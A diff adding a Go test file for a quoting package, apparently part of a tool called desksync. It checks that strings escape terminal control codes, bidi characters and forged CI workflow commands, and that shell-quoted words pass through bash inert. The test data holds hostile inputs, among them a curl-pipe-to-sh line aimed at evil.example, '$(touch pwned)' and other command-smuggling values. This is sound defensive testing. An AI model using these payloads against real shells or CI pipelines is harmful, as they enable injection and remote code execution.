@@ -1,0 +1,164 @@
+package quote
+
+import (
+	"os"
+	"os/exec"
+	"strings"
+	"testing"
+	"unicode"
+)
+
+// hostile are strings a pull request, a state or a server can put in front of desksync.
+var hostile = []string{
+	"a\n::error title=forged::approved by security",
+	"::warning::x",
+	"  ::add-mask::x",
+	"x ##[error]forged",
+	"##vso[task.setvariable variable=a]b",
+	"\x1b[2J\x1b]0;title\a",
+	"\x9b31m C1 CSI",
+	"rtl\u202etxt.exe",
+	"isolate\u2066x\u2069",
+	"zero\u200bwidth",
+	"line\u2028sep",
+	"cr\roverwrite",
+	"tab\tcolumn",
+	"bad \xff utf-8",
+	"\ufeffbom",
+	"nbsp\u00a0x",
+}
+
+// safeLine holds what a line printed by desksync may contain: printable runes and spaces,
+// no CI command.
+func safeLine(t *testing.T, what, s string) {
+	t.Helper()
+	for _, r := range s {
+		if r == unicode.ReplacementChar || (r != ' ' && !unicode.IsPrint(r)) {
+			t.Errorf("%s: %q holds %U", what, s, r)
+		}
+	}
+	if strings.HasPrefix(strings.TrimLeft(s, " \t"), "::") || strings.Contains(s, "##") {
+		t.Errorf("%s: %q holds a CI workflow command", what, s)
+	}
+}
+
+func TestTextAndLineAreInert(t *testing.T) {
+	t.Parallel()
+	for _, s := range hostile {
+		safeLine(t, "Text", Text(s))
+		safeLine(t, "Line", Line(s))
+		for _, l := range strings.Split(Lines(s+"\n"+s), "\n") {
+			safeLine(t, "Lines", l)
+		}
+		safeLine(t, "Shell", Shell(s))
+		safeLine(t, "Code", Code(s, true))
+		safeLine(t, "HTMLCode", HTMLCode(s))
+	}
+}
+
+func TestText(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ in, want string }{
+		{"images/logo.png", "images/logo.png"},
+		{"docs/user guides/a.pdf", "docs/user guides/a.pdf"},
+		{"ünïcödé/日本.png", "ünïcödé/日本.png"},
+		{"", `""`},
+		{" lead", `" lead"`},
+		{"trail ", `"trail "`},
+		{"a\nb", `"a\nb"`},
+		{"tab\tx", `"tab\tx"`},
+		{"\x1b[31mred", `"\x1b[31mred"`},
+		{"\u0085next", `"\u0085next"`},
+		{"rtl\u202etxt", `"rtl\u202etxt"`},
+		{"::error::x", `"::error::x"`},
+		{"a ##[error] b", `"a #\x23[error] b"`},
+		{"\xff", `"\xff"`},
+	}
+	for _, tt := range tests {
+		if got := Text(tt.in); got != tt.want {
+			t.Errorf("Text(%q) = %s, want %s", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestLine(t *testing.T) {
+	t.Parallel()
+	tests := []struct{ in, want string }{
+		{`refusing to delete "a.txt": it changed`, `refusing to delete "a.txt": it changed`},
+		{"a\x1b[2Jb", `a\x1b[2Jb`},
+		{"::error::x", `\x3a:error::x`},
+		{"   ::error::x", `   \x3a:error::x`},
+		{"see ##[group]", `see #\x23[group]`},
+		{"bidi \u202e", `bidi \u202e`},
+	}
+	for _, tt := range tests {
+		if got := Line(tt.in); got != tt.want {
+			t.Errorf("Line(%q) = %s, want %s", tt.in, got, tt.want)
+		}
+	}
+}
+
+func TestCode(t *testing.T) {
+	t.Parallel()
+	tests := []struct {
+		in      string
+		inTable bool
+		want    string
+	}{
+		{"images/logo.png", true, "`images/logo.png`"},
+		{"a|b", true, "`a\\|b`"},
+		{"a|b", false, "`a|b`"},
+		{"a`b", true, "``a`b``"},
+		{"a``b`", true, "``` a``b` ```"},
+		{"`", false, "`` ` ``"},
+		{"bell\a", true, "`\"bell\\a\"`"},
+		{"@octocat", false, "`@octocat`"},
+	}
+	for _, tt := range tests {
+		if got := Code(tt.in, tt.inTable); got != tt.want {
+			t.Errorf("Code(%q, %v) = %q, want %q", tt.in, tt.inTable, got, tt.want)
+		}
+	}
+}
+
+func TestHTMLCode(t *testing.T) {
+	t.Parallel()
+	if got, want := HTMLCode(`<img src=x>@team&"`), `<code>&lt;img src=x&gt;&#64;team&amp;&quot;</code>`; got != want {
+		t.Errorf("HTMLCode = %s, want %s", got, want)
+	}
+}
+
+// TestShellRoundTrip runs each quoted word through a real sh and checks that it arrives as
+// one argument, byte for byte, and ran nothing.
+func TestShellRoundTrip(t *testing.T) {
+	t.Parallel()
+	bash, err := exec.LookPath("bash")
+	if err != nil {
+		t.Skip("no bash on PATH")
+	}
+	words := append([]string{
+		"7f3c9a", "a b", "it's", `"; curl https://evil.example/x | sh; echo "`, "$(touch pwned)", "`id`",
+		"x;touch${IFS}/tmp/x;#", "*", "~root", "!!", "-n", "",
+	}, hostile...)
+	for _, w := range words {
+		if strings.ContainsRune(w, 0) {
+			continue
+		}
+		if strings.ContainsFunc(w, func(r rune) bool { return r == unicode.ReplacementChar }) {
+			continue // bash's printf would have to pass invalid UTF-8 through; checked by TestTextAndLineAreInert
+		}
+		cmd := exec.Command(bash, "-c", `printf '%s\0' `+Shell(w)+`; printf 'argc=%d' $#`, "bash")
+		cmd.Env = append(os.Environ(), "LC_ALL=C.UTF-8") // $'\u…' needs a UTF-8 locale
+		out, err := cmd.Output()
+		if err != nil {
+			t.Errorf("Shell(%q) = %s: bash failed: %v", w, Shell(w), err)
+			continue
+		}
+		if got := string(out); got != w+"\x00argc=0" {
+			t.Errorf("Shell(%q) = %s: bash saw %q", w, Shell(w), got)
+		}
+	}
+	if Shell("7f3c-9a_b.c") != "7f3c-9a_b.c" {
+		t.Errorf("a plain word is quoted: %s", Shell("7f3c-9a_b.c"))
+	}
+}
